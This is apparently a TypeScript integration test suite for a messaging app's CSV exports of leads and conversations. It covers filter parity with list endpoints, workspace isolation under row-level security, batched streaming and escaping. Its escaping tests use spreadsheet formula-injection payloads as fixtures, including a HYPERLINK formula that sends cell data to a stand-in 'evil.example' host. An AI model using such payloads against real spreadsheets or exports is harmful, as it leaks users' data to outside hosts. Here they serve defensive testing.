// The CSV exports against a real database with its migrations and RLS: an export holds exactly
// what its list shows for the same filters (a grid of filter combinations over seeded random
// data, compared with the list procedures' own pages), nobody outside the workspace gets a row,
// hostile text comes out escaped, and a 20k-row export never holds more than one batch.
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { seededRandom } from '#dev/meta/random.ts';
import type { SupabaseStandIn } from '#dev/supabase/server.ts';
import { type ApiStack, operatorClient, startApiStack } from '#dev/test/api-stack.ts';
import type { TestDatabase } from '#dev/test/database.ts';
import { signUpTeam, type TestOperator } from '#dev/test/operators.ts';
import { type ServedHandler, serveFetch } from '#dev/test/serve-fetch.ts';
import { authenticateRequest } from '../auth/authenticate-request.ts';
import { listTranscriptBatch } from '../conversations/index.ts';
import type { LeadSource } from '../leads/index.ts';
import { createWorkspace } from '../team/index.ts';
import { type CsvExport, csvExportResponse, exportConversations, exportLeads } from './index.ts';

let stack: ApiStack;
let database: TestDatabase;
let supabase: SupabaseStandIn;
let api: ServedHandler;
let downloads: ServedHandler;
let owner: TestOperator;
let agent: TestOperator;
let outsider: TestOperator;
let workspaceId: string;
let secondAccountId: string;

const T0 = Date.parse('2026-11-01T08:00:00Z');
const iso = (ms: number) => new Date(ms).toISOString();

/** Rows into `table` in one statement, typed by `columns` (name → SQL type). */
async function insertRows(table: string, columns: Record<string, string>, rows: Record<string, unknown>[]) {
  const names = Object.keys(columns).join(', ');
  const types = Object.entries(columns)
    .map(([name, type]) => `${name} ${type}`)
    .join(', ');
  await database.query(
    `insert into ${table} (${names}) select ${names} from jsonb_to_recordset($1::jsonb) as x(${types})`,
    [JSON.stringify(rows)],
  );
}

async function insertAccount(workspace: string, igId: string, name: string): Promise<string> {
  const { rows } = await database.query<{ id: string }>(
    `insert into channel_connections (workspace_id, login_path, channel_identifier, display_name)
     values ($1, 'instagram', $2, $3) returning id`,
    [workspace, igId, name],
  );
  return rows[0]?.id as string;
}

const SOURCES: LeadSource[] = ['DM', 'STORY_REPLY', 'STORY_MENTION', 'AD', 'REFERRAL', 'PRODUCT', 'IMPORTED'];
const NAMES = [
  'Ada Lovelace',
  'ada_100%',
  'Brian Kernighan',
  'Zoë Ådahl',
  '',
  'Grace',
  'Adam_Smith',
  'Linus',
];
const TEXTS = [
  'Is the blue vase still available?',
  'Shipping to Lisbon?',
  '100% cotton?',
  'ADA says hi',
  'ok',
];

/**
 * The owner's workspace, from a seeded random source: two accounts; conversations open and
 * archived, read and unread, assigned to either member or no one, with 0–4 messages (times tied
 * in places, so paging meets equal keys); a lead for most of them, with every source, a name of
 * its own or one from the contact's profile.
 */
async function seedWorkspace(team: { owner: string; agent: string }) {
  const random = seededRandom(15);
  const pick = <T>(items: readonly T[]) => items[Math.floor(random.next() * items.length)] as T;
  const firstAccount = await insertAccount(workspaceId, '17841400000001501', '@ceramics');
  secondAccountId = await insertAccount(workspaceId, '17841400000001502', '@vases');
  const conversations: Record<string, unknown>[] = [];
  const messages: Record<string, unknown>[] = [];
  const leads: Record<string, unknown>[] = [];
  const contacts: Record<string, unknown>[] = [];
  for (let i = 0; i < 240; i++) {
    const id = crypto.randomUUID();
    const account = i % 3 === 0 ? secondAccountId : firstAccount;
    const igsid = `c${i}`;
    const name = pick(NAMES);
    conversations.push({
      id,
      workspace_id: workspaceId,
      channel_connection_id: account,
      contact_identifier: igsid,
      contact_name: name,
      contact_username: random.next() < 0.7 ? `${name.split(' ')[0]?.toLowerCase()}${i}` : null,
      status: random.next() < 0.3 ? 'ARCHIVED' : 'ACTIVE',
      unread_count: random.next() < 0.4 ? 1 + Math.floor(random.next() * 3) : 0,
      assigned_to: pick([team.owner, team.agent, null]),
      // Three conversations share each time.
      last_message_at: iso(T0 + Math.floor(i / 3) * 1000),
      is_self: i === 17,
    });
    const count = Math.floor(random.next() * 5);
    for (let m = 0; m < count; m++) {
      messages.push({
        workspace_id: workspaceId,
        conversation_id: id,
        channel_connection_id: account,
        direction: random.next() < 0.6 ? 'INBOUND' : 'OUTBOUND',
        status: 'RECEIVED',
        content: pick(TEXTS),
        // Two of a conversation's messages may share a time.
        occurred_at: iso(T0 + Math.floor(m / 2) * 1000),
      });
    }
    if (random.next() < 0.85) {
      leads.push({
        workspace_id: workspaceId,
        channel_connection_id: account,
        conversation_id: id,
        contact_identifier: igsid,
        source: pick(SOURCES),
        name: random.next() < 0.3 ? pick(NAMES) : null,
        username: random.next() < 0.2 ? `lead${i}` : null,
        created_at: iso(T0 + Math.floor(i / 4) * 1000),
        origin_at: iso(T0 + i * 1000 - 5000),
      });
    }
    if (random.next() < 0.6) {
      contacts.push({
        workspace_id: workspaceId,
        channel_connection_id: account,
        igsid,
        name: pick(NAMES),
        username: random.next() < 0.5 ? `@ada${i}` : `profile${i}`,
      });
    }
  }
  await insertRows(
    'conversations',
    {
      id: 'uuid',
      workspace_id: 'uuid',
      channel_connection_id: 'uuid',
      contact_identifier: 'text',
      contact_name: 'text',
      contact_username: 'text',
      status: 'text',
      unread_count: 'int',
      assigned_to: 'uuid',
      last_message_at: 'timestamptz',
      is_self: 'boolean',
    },
    conversations,
  );
  await insertRows(
    'conversation_messages',
    {
      workspace_id: 'uuid',
      conversation_id: 'uuid',
      channel_connection_id: 'uuid',
      direction: 'text',
      status: 'text',
      content: 'text',
      occurred_at: 'timestamptz',
    },
    messages,
  );
  await insertRows(
    'leads',
    {
      workspace_id: 'uuid',
      channel_connection_id: 'uuid',
      conversation_id: 'uuid',
      contact_identifier: 'text',
      source: 'text',
      name: 'text',
      username: 'text',
      created_at: 'timestamptz',
      origin_at: 'timestamptz',
    },
    leads,
  );
  await insertRows(
    'contacts',
    { workspace_id: 'uuid', channel_connection_id: 'uuid', igsid: 'text', name: 'text', username: 'text' },
    contacts,
  );
}

/** Every record of an export (the header first), read to the end. */
async function records(csv: CsvExport): Promise<string[][]> {
  let text = '';
  for await (const chunk of csv.chunks) text += chunk;
  return parse(text, { bom: true, relax_column_count: false }) as string[][];
}

/** The rows of an export as objects by heading. */
async function rowsOf(csv: CsvExport): Promise<Record<string, string>[]> {
  const [header, ...rows] = await records(csv);
  return rows.map((row) => Object.fromEntries((header ?? []).map((heading, i) => [heading, row[i] ?? ''])));
}

beforeAll(async () => {
  stack = await startApiStack();
  ({ database, supabase, api } = stack);
  const { services } = stack;
  ({ owner, agent, outsider, workspaceId } = await signUpTeam(supabase, services.db));
  await seedWorkspace({ owner: owner.actor.userId, agent: agent.actor.userId });
  // The resource routes' work, over real HTTP: who is asking, then the export's own response.
  downloads = await serveFetch(async (request) => {
    const headers = new Headers();
    const auth = await authenticateRequest(request, headers, services);
    if (auth.status !== 'signed-in') return new Response('sign in first', { status: 401 });
    const url = new URL(request.url);
    const [, , workspace, file] = url.pathname.split('/');
    return csvExportResponse(services.db, auth.actor, {
      kind: file === 'leads.csv' ? 'leads' : 'conversations',
      workspaceId: workspace,
      searchParams: url.searchParams,
      headers,
      now: new Date('2026-12-01T12:00:00Z'),
    });
  });
}, 120_000);

afterAll(async () => {
  await downloads?.close();
  await stack?.stop();
});

const download = (operator: TestOperator, path: string) =>
  fetch(`${downloads.url}${path}`, { headers: { Authorization: `Bearer ${operator.session.access_token}` } });

/** Every id a paged list gives, page after page. */
async function everyId(
  page: (cursor: string | null) => Promise<{ items: { id: string }[]; nextCursor: string | null }>,
): Promise<string[]> {
  const ids: string[] = [];
  let cursor: string | null = null;
  do {
    const next = await page(cursor);
    ids.push(...next.items.map((item) => item.id));
    cursor = next.nextCursor;
  } while (cursor);
  return ids;
}

describe('filters: an export holds exactly what the list shows', () => {
  const listedLeadIds = (operator: TestOperator, filters: { source?: LeadSource; search?: string }) =>
    everyId((cursor) =>
      operatorClient(api, operator).leads.list.query({ workspaceId, ...filters, cursor, limit: 100 }),
    );

  it('leads: every source and search, each compared with leads.list page by page', async () => {
    const random = seededRandom(42);
    // Substrings of the seeded names, drawn at random, beside the cases the list treats specially.
    const drawn = Array.from({ length: 4 }, () => {
      const name = NAMES[Math.floor(random.next() * NAMES.length)] ?? 'Ada';
      const start = Math.floor(random.next() * Math.max(1, name.length - 2));
      return name.slice(start, start + 3);
    });
    const searches = [undefined, 'ada', '@ada', '@', '  Ada  ', '100%', '_', 'nobody-at-all', ...drawn];
    let nonEmpty = 0;
    for (const source of [undefined, ...SOURCES]) {
      for (const search of searches) {
        const filters = { source, search };
        const listed = await listedLeadIds(agent, filters);
        // An odd batch size: batches end on tied timestamps and mid-page.
        const csv = await exportLeads(stack.services.db, agent.actor, workspaceId, filters, {
          batchSize: 37,
        });
        expect(csv.total, JSON.stringify(filters)).toBe(listed.length);
        expect(
          (await rowsOf(csv)).map((row) => row['Lead ID']),
          JSON.stringify(filters),
        ).toEqual(listed);
        if (listed.length > 0) nonEmpty++;
      }
    }
    // The grid is no grid of empty results.
    expect(nonEmpty).toBeGreaterThan(40);
  });

  it('conversations: every status, flag, account and search, each compared with inbox.listConversations', async () => {
    const { rows: stored } = await database.query<{ conversation_id: string; id: string }>(
      'select conversation_id, id from conversation_messages where workspace_id = $1 order by occurred_at, id',
      [workspaceId],
    );
    const messagesOf = new Map<string, string[]>();
    for (const row of stored)
      messagesOf.set(row.conversation_id, [...(messagesOf.get(row.conversation_id) ?? []), row.id]);
    let nonEmpty = 0;
    for (const operator of [owner, agent]) {
      for (const status of ['ACTIVE', 'ARCHIVED'] as const) {
        for (const unreadOnly of [undefined, true]) {
          for (const assignedToMe of [undefined, true]) {
            for (const accountId of [undefined, secondAccountId]) {
              for (const search of [undefined, 'ada', 'vase', '100%']) {
                const filters = { status, unreadOnly, assignedToMe, accountId, search };
                const listed = await everyId((cursor) =>
                  operatorClient(api, operator).inbox.listConversations.query({
                    workspaceId,
                    ...filters,
                    cursor,
                    limit: 100,
                  }),
                );
                // One row per message, oldest first, in the list's order; one for a conversation without any.
                const expected = listed.flatMap((id) =>
                  (messagesOf.get(id) ?? ['']).map((message) => `${id}/${message}`),
                );
                const csv = await exportConversations(
                  stack.services.db,
                  operator.actor,
                  workspaceId,
                  filters,
                  {
                    batchSize: 7,
                  },
                );
                const label = JSON.stringify({ operator: operator.email, ...filters });
                expect(csv.total, label).toBe(expected.length);
                const exported = (await rowsOf(csv)).map(
                  (row) => `${row['Conversation ID']}/${row['Message ID']}`,
                );
                expect(exported, label).toEqual(expected);
                if (listed.length > 0) nonEmpty++;
              }
            }
          }
        }
      }
    }
    expect(nonEmpty).toBeGreaterThan(40);
  });

  it('the download route applies the query string as the same filters', async () => {
    const response = await download(agent, `/w/${workspaceId}/leads.csv?source=AD&search=ada`);
    expect(response.status).toBe(200);
    const rows = parse(await response.text(), { bom: true, columns: true }) as Record<string, string>[];
    const listed = await listedLeadIds(agent, { source: 'AD', search: 'ada' });
    expect(rows.map((row) => row['Lead ID'])).toEqual(listed);
    expect(response.headers.get('X-Total-Rows')).toBe(String(listed.length));

    const archived = await download(
      owner,
      `/w/${workspaceId}/conversations.csv?status=ARCHIVED&unreadOnly=true&assignedToMe=1`,
    );
    expect(archived.status).toBe(200);
    const conversationRows = parse(await archived.text(), { bom: true, columns: true }) as Record<
      string,
      string
    >[];
    const csv = await exportConversations(stack.services.db, owner.actor, workspaceId, {
      status: 'ARCHIVED',
      unreadOnly: true,
      assignedToMe: true,
    });
    expect(conversationRows).toEqual(await rowsOf(csv));
    expect(archived.headers.get('X-Total-Rows')).toBe(String(csv.total));
  });
});

describe('the download', () => {
  it('is a CSV attachment, never cached, with its row count', async () => {
    const response = await download(owner, `/w/${workspaceId}/leads.csv`);
    expect(response.status).toBe(200);
    expect(response.headers.get('Content-Type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('Content-Disposition')).toBe('attachment; filename="leads-2026-12-01.csv"');
    expect(response.headers.get('Cache-Control')).toBe('no-store');
    const bytes = new Uint8Array(await response.arrayBuffer());
    // The byte-order mark, which text() would drop, tells Excel the file is UTF-8.
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const body = new TextDecoder().decode(bytes);
    expect(body.startsWith('Lead ID,Contact name,Username,Instagram user ID,Source,')).toBe(true);
    const rows = parse(body, { bom: true, columns: true }) as Record<string, string>[];
    expect(response.headers.get('X-Total-Rows')).toBe(String(rows.length));
    expect(rows.length).toBeGreaterThan(100);
  });

  it.each([
    ['source=NOPE', /source/],
    [`search=${'x'.repeat(101)}`, /search/],
    ['limit=5', /limit/],
    ['source=AD&cursor=abc', /cursor/],
  ])('refuses leads.csv?%s with 400 and says why', async (query, says) => {
    const response = await download(owner, `/w/${workspaceId}/leads.csv?${query}`);
    expect(response.status).toBe(400);
    expect(response.headers.get('Content-Type')).toMatch(/^application\/json/);
    expect(response.headers.get('Cache-Control')).toBe('no-store');
    const { error } = (await response.json()) as { error: string };
    expect(error).toMatch(/^Invalid export filters: /);
    expect(error).toMatch(says);
  });

  it.each([
    ['status=OPEN', /status/],
    ['unreadOnly=maybe', /unreadOnly/],
    ['accountId=not-a-uuid', /accountId/],
  ])('refuses conversations.csv?%s with 400 and says why', async (query, says) => {
    const response = await download(owner, `/w/${workspaceId}/conversations.csv?${query}`);
    expect(response.status).toBe(400);
    expect(((await response.json()) as { error: string }).error).toMatch(says);
  });
});

describe('tenancy', () => {
  it('someone outside the workspace gets 404, for either export, with or without filters', async () => {
    for (const path of ['leads.csv', 'conversations.csv', 'leads.csv?source=NOPE']) {
      const response = await download(outsider, `/w/${workspaceId}/${path}`);
      expect(response.status, path).toBe(404);
      expect(await response.json()).toEqual({ error: 'Workspace not found', reason: 'not_a_member' });
    }
    expect((await download(owner, '/w/not-a-workspace/leads.csv')).status).toBe(404);
  });

  it('under RLS, an outsider reading the workspace directly gets no row', async () => {
    const leads = await exportLeads(stack.services.db, outsider.actor, workspaceId, {});
    expect(leads.total).toBe(0);
    expect(await records(leads)).toHaveLength(1); // the header alone
    const conversations = await exportConversations(stack.services.db, outsider.actor, workspaceId, {
      status: 'ACTIVE',
    });
    expect(conversations.total).toBe(0);
    expect(await records(conversations)).toHaveLength(1);
    // Even with the workspace's conversation ids in hand, their messages stay out of reach.
    const { rows } = await database.query<{ conversation_id: string }>(
      'select distinct conversation_id from conversation_messages where workspace_id = $1',
      [workspaceId],
    );
    const query = {
      conversationIds: rows.map((r) => r.conversation_id),
      after: null,
      limit: 1000,
      now: new Date(),
    };
    const asOutsider = await stack.services.db.withUser(outsider.actor, (trx) =>
      listTranscriptBatch(trx, query),
    );
    expect(asOutsider.items).toEqual([]);
    const asMember = await stack.services.db.withUser(agent.actor, (trx) => listTranscriptBatch(trx, query));
    expect(asMember.items.length).toBeGreaterThan(100);
  });
});

describe('hostile text', () => {
  // Cells a spreadsheet would run as formulas, or that would break a naive CSV writer.
  const HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    '+1 555 0100',
    '-2+3',
    '@SUM(A1:A9)',
    '\t=cmd',
    '\r=cmd',
    '＝1+1',
    'a "quoted" word, a comma,\nA newline and\r\na CRLF',
    'Zoë 🙂 日本語 — ﬁ',
    'plain - with = inside',
  ];
  const ESCAPED = [
    `'${HOSTILE[0]}`,
    `'${HOSTILE[1]}`,
    `'${HOSTILE[2]}`,
    `'${HOSTILE[3]}`,
    `'${HOSTILE[4]}`,
    `'${HOSTILE[5]}`,
    `'${HOSTILE[6]}`,
    HOSTILE[7],
    HOSTILE[8],
    HOSTILE[9],
  ];
  let hostileWorkspace: string;

  beforeAll(async () => {
    hostileWorkspace = (await createWorkspace(stack.services.db, owner.actor, 'Hostile')).id;
    const account = await insertAccount(hostileWorkspace, '17841400000001599', '=evil()');
    const conversation = crypto.randomUUID();
    await insertRows(
      'conversations',
      {
        id: 'uuid',
        workspace_id: 'uuid',
        channel_connection_id: 'uuid',
        contact_identifier: 'text',
        contact_name: 'text',
        last_message_at: 'timestamptz',
      },
      [
        {
          id: conversation,
          workspace_id: hostileWorkspace,
          channel_connection_id: account,
          contact_identifier: 'h1',
          contact_name: HOSTILE[0],
          last_message_at: iso(T0),
        },
      ],
    );
    await insertRows(
      'conversation_messages',
      {
        workspace_id: 'uuid',
        conversation_id: 'uuid',
        channel_connection_id: 'uuid',
        direction: 'text',
        status: 'text',
        content: 'text',
        occurred_at: 'timestamptz',
      },
      HOSTILE.map((content, i) => ({
        workspace_id: hostileWorkspace,
        conversation_id: conversation,
        channel_connection_id: account,
        direction: 'INBOUND',
        status: 'RECEIVED',
        content,
        occurred_at: iso(T0 + i * 1000),
      })),
    );
    await insertRows(
      'leads',
      {
        workspace_id: 'uuid',
        channel_connection_id: 'uuid',
        contact_identifier: 'text',
        name: 'text',
        username: 'text',
        source_ref: 'text',
        created_at: 'timestamptz',
      },
      HOSTILE.map((name, i) => ({
        workspace_id: hostileWorkspace,
        channel_connection_id: account,
        contact_identifier: `h${i}`,
        name,
        username: '@ada',
        source_ref: HOSTILE[(i + 1) % HOSTILE.length],
        // Oldest first in HOSTILE: the export is newest first.
        created_at: iso(T0 - i * 1000),
      })),
    );
  });

  it('comes out escaped in leads: quotes, commas and line breaks quoted, formulas made text', async () => {
    const response = await download(owner, `/w/${hostileWorkspace}/leads.csv`);
    const body = await response.text();
    // Every record ends in CRLF; the line breaks inside cells are quoted, so 10 leads are 11 records.
    const all = parse(body, { bom: true }) as string[][];
    expect(all).toHaveLength(HOSTILE.length + 1);
    expect(body).toContain('"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"');
    const rows = parse(body, { bom: true, columns: true }) as Record<string, string>[];
    expect(rows.map((row) => row['Contact name'])).toEqual(ESCAPED);
    expect(rows.map((row) => row.Ref)).toEqual(ESCAPED.map((_, i) => ESCAPED[(i + 1) % ESCAPED.length]));
    expect(rows.map((row) => row.Account)).toEqual(Array(HOSTILE.length).fill("'=evil()"));
    // A handle goes out without its @, so it is not taken for a formula and altered.
    expect(rows.map((row) => row.Username)).toEqual(Array(HOSTILE.length).fill('ada'));
  });

  it('comes out escaped in conversations', async () => {
    const csv = await exportConversations(stack.services.db, owner.actor, hostileWorkspace, {
      status: 'ACTIVE',
    });
    const rows = await rowsOf(csv);
    expect(rows.map((row) => row.Text)).toEqual(ESCAPED);
    expect(new Set(rows.map((row) => row['Contact name']))).toEqual(new Set([ESCAPED[0]]));
    expect(
      rows.every((row) => /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/.test(row['Message time (UTC)'] ?? '')),
    ).toBe(true);
  });
});

describe('memory: an export holds one batch at a time', () => {
  const BATCH = 1000;
  let bulkWorkspace: string;

  beforeAll(async () => {
    bulkWorkspace = (await createWorkspace(stack.services.db, owner.actor, 'Bulk')).id;
    const account = await insertAccount(bulkWorkspace, '17841400000001600', '@bulk');
    // Set-based: 20,500 leads, and 250 conversations of 90 messages each (22,500 rows).
    await database.query(
      `insert into leads (workspace_id, channel_connection_id, contact_identifier, name, source, created_at)
       select $1, $2, 'bulk' || n, 'Customer ' || n, 'DM', $3::timestamptz + n * interval '1 second'
         from generate_series(1, 20500) n`,
      [bulkWorkspace, account, iso(T0)],
    );
    await database.query(
      `with c as (
         insert into conversations (workspace_id, channel_connection_id, contact_identifier, last_message_at)
         select $1, $2, 'bulk' || n, $3::timestamptz + n * interval '1 minute' from generate_series(1, 250) n
         returning id)
       insert into conversation_messages (workspace_id, conversation_id, channel_connection_id, direction, status, content, occurred_at)
       select $1, c.id, $2, 'INBOUND', 'RECEIVED', 'message ' || m, $3::timestamptz + m * interval '1 second'
         from c, generate_series(1, 90) m`,
      [bulkWorkspace, account, iso(T0)],
    );
  }, 120_000);

  /**
   * Reads the export chunk by chunk, checking at each chunk that the rows read from the database
   * but not yet handed on are at most one batch, and that no read was larger than one.
   */
  async function drain(start: (onRead: (rows: number) => void) => Promise<CsvExport>) {
    let read = 0;
    let reads = 0;
    let largest = 0;
    let written = 0;
    const csv = await start((rows) => {
      read += rows;
      reads++;
      largest = Math.max(largest, rows);
    });
    let header = true;
    for await (const chunk of csv.chunks) {
      // Nothing is read before the first chunk (the header) is asked for.
      if (header) expect(read).toBe(0);
      expect(read - written).toBeLessThanOrEqual(BATCH);
      written += (parse(chunk, { bom: true }) as string[][]).length - (header ? 1 : 0);
      header = false;
    }
    expect(largest).toBeLessThanOrEqual(BATCH);
    return { total: csv.total, read, reads, written };
  }

  it('leads: 20,500 rows in batches of 1,000', async () => {
    const run = await drain((onRead) =>
      exportLeads(stack.services.db, owner.actor, bulkWorkspace, {}, { batchSize: BATCH, onRead }),
    );
    expect(run).toEqual({ total: 20_500, read: 20_500, reads: 21, written: 20_500 });
  }, 60_000);

  it('conversations: 22,500 messages in batches of 1,000', async () => {
    const run = await drain((onRead) =>
      exportConversations(
        stack.services.db,
        owner.actor,
        bulkWorkspace,
        { status: 'ACTIVE' },
        { batchSize: BATCH, onRead },
      ),
    );
    expect(run.total).toBe(22_500);
    expect(run.read).toBe(22_500);
    expect(run.written).toBe(22_500);
    expect(run.reads).toBeGreaterThanOrEqual(23);
  }, 60_000);
});
